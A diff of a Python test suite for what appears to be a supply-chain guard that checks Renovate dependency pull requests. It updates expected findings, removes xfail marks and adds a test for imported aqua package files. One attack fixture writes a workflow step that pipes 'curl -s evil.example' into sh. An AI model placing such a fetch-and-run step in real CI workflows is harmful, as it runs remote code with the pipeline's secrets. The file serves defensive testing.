@@ -13,7 +13,7 @@ id and path) and exit code 1. Two kinds of repository:
   against its upstream snapshot (lock hashes against signed ``SHA256SUMS``, aqua checksums
   against signed checksum files), as the base branch's policy (its ``depguard.yaml``).
 
-Scenarios the current code does not catch are marked ``xfail(strict=True,
+Scenarios the code does not catch yet are marked ``xfail(strict=True,
 raises=AssertionError)`` with what is missing (``not implemented yet``) or what is wrong
 (``bug``/``gap``); a fix turns them into XPASS, which fails the run until the mark is removed.
 The marks of the DESIGN.md §2 rules still to come (``signature-downgrade``,
@@ -374,8 +374,8 @@ ATTACKS = [
         ),
         {("pr-unexpected-file", ".github/actions/setup/action.yaml")},
     ),
-    # README: renovate.allowed_files includes .github/workflows/*.yaml by default, so a new
-    # workflow is judged by its uses: refs only; an unpinned one is what gets caught.
+    # renovate.allowed_files includes .github/workflows/*.yaml by default, but Renovate never
+    # adds a workflow: the new file is an unexpected change, and its unpinned action is caught.
     Attack(
         "new-workflow-with-unpinned-action",
         (
@@ -386,7 +386,10 @@ ATTACKS = [
                 "      - uses: actions/checkout@v4\n      - run: curl -s evil.example | sh\n",
             ),
         ),
-        {("action-not-pinned", ".github/workflows/release.yaml")},
+        {
+            ("action-not-pinned", ".github/workflows/release.yaml"),
+            ("pr-unexpected-change", ".github/workflows/release.yaml"),
+        },
     ),
     Attack(
         "new-aqua-registry",
@@ -502,8 +505,12 @@ ATTACKS = [
                 "      - uses: docker://alpine:3.20\n      - run: make test",
             ),
         ),
-        # an image is not an action: trust.actions.owners does not apply, the tag does
-        {("action-not-pinned", ".github/workflows/ci.yaml")},
+        # an image is not an action: trust.actions.owners does not apply, the tag does; and
+        # Renovate never adds a step
+        {
+            ("action-not-pinned", ".github/workflows/ci.yaml"),
+            ("pr-unexpected-change", ".github/workflows/ci.yaml"),
+        },
     ),
     # Still a full SHA, but of another owner's fork.
     Attack(
@@ -648,18 +655,20 @@ def _example(
     *,
     base_edit: Callable[[Path], None] | None = None,
     policy: Path | None = None,
+    who: dict[str, str] | None = None,
 ) -> CliResult:
     """A Renovate PR on the shipped example, verified offline against its snapshot.
 
     ``base_edit`` makes the base an older state (so the head is a bump); ``policy`` replaces
-    the example's depguard.yaml (see :func:`_policy`)."""
+    the example's depguard.yaml (see :func:`_policy`); ``who`` replaces the event's author
+    and branch (write_event keywords)."""
     base = _copy_example(tmp_path / "base")
     if base_edit is not None:
         base_edit(base)
     head = _copy_example(tmp_path / "head")
     head_edit(head)
     repo, base_sha, head_sha = build_pr_repo(tmp_path, base, head)
-    event = write_event(tmp_path / "event.json", branch="renovate/acme")
+    event = write_event(tmp_path / "event.json", **(who or {"branch": "renovate/acme"}))
     config = policy if policy is not None else EXAMPLE / "depguard.yaml"
     return _run(repo, base_sha, head_sha, event, config, verify=True)
 
@@ -802,14 +811,6 @@ jobs:
 """
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="not implemented yet: pr-unexpected-change (or pr-unexpected-file) for workflow "
-    "content other than uses: refs. renovate.allowed_files admits .github/workflows/*.yaml by "
-    "default (README, manifests/policy/default.yaml) and only uses: refs are extracted, so a bot "
-    "PR adding a workflow or changing a run: step, with SHA-pinned allowed actions, passes",
-)
 @pytest.mark.parametrize(
     ("path", "edit"),
     [
@@ -829,12 +830,6 @@ def test_workflow_script_in_an_allowed_workflow_file(
     assert _rules_at(result, path) & {"pr-unexpected-change", "pr-unexpected-file"}
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="not implemented yet: the body cross-check (engine._unclaimed) compares package "
-    "names only, not the claimed from -> to versions",
-)
 def test_body_claims_another_version_of_the_same_package(tmp_path: Path) -> None:
     body = RENOVATE_BODY.format(package="suzuki-shunsuke/tfcmt", old="v4.14.0", new="v4.14.1")
     result = _synthetic(
@@ -885,13 +880,6 @@ def test_a_lock_file_deleted_in_a_bot_pr(tmp_path: Path) -> None:
     assert "lock-missing-provider" in _rules_at(result, lock)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="gap: check-pr verifies without --deep, so an h1: hash added to a bumped lock entry "
-    "is never compared with upstream's packages (a zh: one is: see "
-    "bump-with-extra-zh-for-unsigned-zip)",
-)
 def test_a_bump_with_an_extra_h1_for_an_unsigned_package(tmp_path: Path) -> None:
     def head(tree: Path) -> None:
         _bump_stg(tree)
@@ -913,13 +901,6 @@ def test_checksum_verification_turned_off_in_a_bot_pr(tmp_path: Path) -> None:
     assert "pr-unexpected-change" in _rules_at(result, "aqua/aqua.yaml")
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="gap: a new aqua import glob is an aqua-import change no rule judges, and "
-    "verification materialises only the touched directory, so packages imported from a file "
-    "outside it (docs/, already on the base branch) are neither judged nor verified",
-)
 def test_a_new_import_of_a_file_outside_the_dependency_files(tmp_path: Path) -> None:
     def docs(tree: Path) -> None:
         (tree / "docs").mkdir()
@@ -940,6 +921,32 @@ def test_a_new_import_of_a_file_outside_the_dependency_files(tmp_path: Path) -> 
         "aqua-not-allowed",
         "pr-unexpected-change",
     }
+
+
+def test_a_human_import_of_a_file_outside_the_touched_directory_is_verified(
+    tmp_path: Path,
+) -> None:
+    """Not a bot PR, so no PR rule objects to the new import; but the file it imports (not
+    touched by the PR) is materialised with the config, so its packages are resolved and
+    judged like any other: 0wner/tool is not in the acme registry."""
+
+    def docs(tree: Path) -> None:
+        (tree / "docs").mkdir()
+        (tree / "docs" / "tools.yaml").write_text(
+            "packages:\n  - name: 0wner/tool@v1.0.0\n    registry: acme\n"
+        )
+
+    def head(tree: Path) -> None:
+        docs(tree)
+        _replace(
+            tree / "aqua" / "aqua.yaml", "packages:\n", "packages:\n  - import: ../docs/*.yaml\n"
+        )
+
+    result = _example(
+        tmp_path, head, base_edit=docs, who={"author": "alice", "branch": "feature/tools"}
+    )
+    _assert_caught(result, {("invalid-manifest", "docs/tools.yaml")})
+    assert "0wner/tool is not defined in registry 'acme'" in result.out
 
 
 def test_a_digest_pinned_docker_action_is_pinned(tmp_path: Path) -> None:
